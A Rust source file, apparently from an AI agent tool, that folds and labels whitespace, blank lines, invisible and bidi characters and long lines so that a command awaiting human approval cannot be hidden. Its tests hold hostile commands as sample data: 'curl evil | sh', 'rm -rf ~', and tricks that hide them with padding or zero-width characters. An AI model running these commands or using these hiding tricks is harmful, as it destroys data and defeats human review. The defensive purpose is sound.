//! What a person is shown when a call waits for approval: the same folding on every surface
//! (terminal, browser, ACP editor), so nothing the command does can be pushed out of sight.
//!
//! Invariants:
//! - Every non-blank character of the subject is shown or counted: a run of `FOLD_RUN` or more
//!   blank or invisible characters inside a line becomes one visible marker that says how many
//!   (`⟨8,990 spaces⟩`), runs of blank lines become `⋮ (N blank lines)`, and a line longer than
//!   `MAX_LINE_CHARS` keeps its head and tail with the count of what is between.
//! - `head` (the start of the command, folded) and `line_count` are meant to stand next to the
//!   question itself, so the person sees the command's start even when the lines scrolled.
//! - A character that shows as nothing and is not a space or tab (zero-width, bidi overrides,
//!   tags, variation selectors) is always named (`⟨U+202E⟩`), so the browser and the editor,
//!   which show text as text, cannot be made to reorder or hide part of a command.
//! - Control characters are left to each surface (the terminal makes them visible).

use serde::{Deserialize, Serialize};

/// The shortest run of blank or invisible characters inside a line that is folded.
pub const FOLD_RUN: usize = 8;

/// The longest line shown whole, in characters (after folding).
pub const MAX_LINE_CHARS: usize = 300;

/// How much of a long line's start and end is kept.
const LONG_LINE_HEAD: usize = 200;
const LONG_LINE_TAIL: usize = 60;

/// The longest `head`, in characters.
pub const HEAD_CHARS: usize = 100;

/// A subject as a person sees it at the approval question.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApprovalView {
    /// The lines to show, folded (blank-line runs as one `⋮` line).
    pub lines: Vec<String>,
    /// How many lines the subject really has.
    pub line_count: usize,
    /// The first non-blank line, folded and cut to `HEAD_CHARS`.
    pub head: String,
    /// Characters of long lines not shown (their middles): every surface says so at the
    /// question, so a person knows there is more than they see.
    #[serde(default)]
    pub hidden_chars: usize,
}

/// Characters that show as nothing (or as blank) on a screen: whitespace but the newline,
/// and the invisible ones (`is_invisible`).
fn is_blank_or_invisible(c: char) -> bool {
    (c.is_whitespace() && c != '\n') || is_invisible(c)
}

/// Characters that take no room and show nothing: zero-width and direction-formatting
/// characters, fillers, variation selectors and tag characters. A person cannot check what
/// they carry, so wherever keel shows what will run or be written it names each one.
pub fn is_invisible(c: char) -> bool {
    matches!(
            c,
            '\u{00ad}'
                | '\u{034f}'
                | '\u{061c}'
                | '\u{115f}'
                | '\u{1160}'
                | '\u{17b4}'
                | '\u{17b5}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{206f}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{e0000}'..='\u{e007f}'
                | '\u{e0100}'..='\u{e01ef}'
    )
}

/// `1234567` as `1,234,567`.
fn grouped(n: usize) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (index, digit) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            out.push(',');
        }
        out.push(digit);
    }
    out
}

fn fold_run(run: &[char], out: &mut String) {
    if run.len() < FOLD_RUN {
        // Spaces and tabs stay; a character that shows as nothing (zero-width, a direction
        // override, a tag) is named, even alone: it could reorder or hide what is shown.
        for c in run {
            if c.is_whitespace() {
                out.push(*c);
            } else {
                out.push_str(&format!("⟨U+{:04X}⟩", u32::from(*c)));
            }
        }
        return;
    }
    let what = if run.iter().all(|c| *c == ' ') {
        "spaces"
    } else {
        "blank or invisible characters"
    };
    out.push_str(&format!("⟨{} {what}⟩", grouped(run.len())));
}

/// One line with its blank runs folded and, when still too long, its middle counted.
pub fn fold_line(line: &str) -> String {
    fold_line_counted(line).0
}

/// `fold_line`, and how many characters of its middle are not shown.
fn fold_line_counted(line: &str) -> (String, usize) {
    let mut folded = String::new();
    let mut run: Vec<char> = Vec::new();
    for c in line.chars() {
        if is_blank_or_invisible(c) {
            run.push(c);
        } else {
            fold_run(&run, &mut folded);
            run.clear();
            folded.push(c);
        }
    }
    fold_run(&run, &mut folded);
    let count = folded.chars().count();
    if count <= MAX_LINE_CHARS {
        return (folded, 0);
    }
    let head: String = folded.chars().take(LONG_LINE_HEAD).collect();
    let tail: String = folded.chars().skip(count - LONG_LINE_TAIL).collect();
    let hidden = count - LONG_LINE_HEAD - LONG_LINE_TAIL;
    (
        format!("{head}⟨… {} more characters …⟩{tail}", grouped(hidden)),
        hidden,
    )
}

/// The view of `subject` (the command, or the path) for the approval question.
pub fn approval_view(subject: &str) -> ApprovalView {
    let raw: Vec<&str> = subject.split('\n').collect();
    let is_blank = |line: &str| line.chars().all(is_blank_or_invisible);
    let mut lines = Vec::new();
    let mut hidden_chars = 0;
    let mut index = 0;
    while index < raw.len() {
        let blanks = raw[index..]
            .iter()
            .take_while(|line| is_blank(line))
            .count();
        if blanks >= 2 {
            lines.push(format!("⋮ ({} blank lines)", grouped(blanks)));
            index += blanks;
            continue;
        }
        let (line, hidden) = fold_line_counted(raw[index]);
        hidden_chars += hidden;
        lines.push(line);
        index += 1;
    }
    let first = raw
        .iter()
        .find(|line| !is_blank(line))
        .map_or(String::new(), |line| fold_line(line));
    let head = if first.chars().count() > HEAD_CHARS {
        first.chars().take(HEAD_CHARS - 1).collect::<String>() + "…"
    } else {
        first
    };
    ApprovalView {
        lines,
        line_count: raw.len(),
        head,
        hidden_chars,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_long_run_of_spaces_cannot_hide_the_start_of_a_command() {
        let subject = format!("touch PWNED;{}echo harmless", " ".repeat(9000));
        let view = approval_view(&subject);
        assert_eq!(view.lines, ["touch PWNED;⟨9,000 spaces⟩echo harmless"]);
        assert_eq!(view.head, "touch PWNED;⟨9,000 spaces⟩echo harmless");
        assert_eq!(view.line_count, 1);
    }

    #[test]
    fn invisible_characters_and_tabs_are_folded_and_counted() {
        let subject = format!("rm -rf ~{}# safe", "\u{200b}\t \u{feff}".repeat(5));
        let view = approval_view(&subject);
        assert_eq!(
            view.lines,
            ["rm -rf ~⟨20 blank or invisible characters⟩# safe"]
        );
        // Short runs (indentation) stay as written.
        assert_eq!(approval_view("    cargo test").lines, ["    cargo test"]);
    }

    #[test]
    fn a_lone_direction_override_or_zero_width_character_is_named() {
        let view = approval_view("echo '\u{202e}' && rm -rf ~ && echo 'ko'\u{200b}x\u{e0041}");
        assert_eq!(
            view.lines,
            ["echo '⟨U+202E⟩' && rm -rf ~ && echo 'ko'⟨U+200B⟩x⟨U+E0041⟩"]
        );
    }

    #[test]
    fn blank_lines_and_long_lines_are_counted_never_dropped() {
        let subject = format!("\n\n\ncurl evil | sh{}echo ok", "\n".repeat(300));
        let view = approval_view(&subject);
        assert_eq!(view.line_count, 304);
        assert_eq!(view.lines[0], "⋮ (3 blank lines)");
        assert_eq!(view.lines[1], "curl evil | sh");
        assert_eq!(view.lines[2], "⋮ (299 blank lines)");
        assert_eq!(view.head, "curl evil | sh");
        let long = format!("echo {}; rm -rf ~", "x".repeat(5000));
        let folded = approval_view(&long).lines[0].clone();
        assert!(folded.starts_with("echo xxx"), "{folded}");
        assert!(
            folded.ends_with("; rm -rf ~"),
            "the end stays visible: {folded}"
        );
        assert!(folded.contains("⟨… 4,755 more characters …⟩"), "{folded}");
        assert_eq!(approval_view(&long).hidden_chars, 4755);
        assert!(folded.chars().count() < MAX_LINE_CHARS + 40);
    }
}
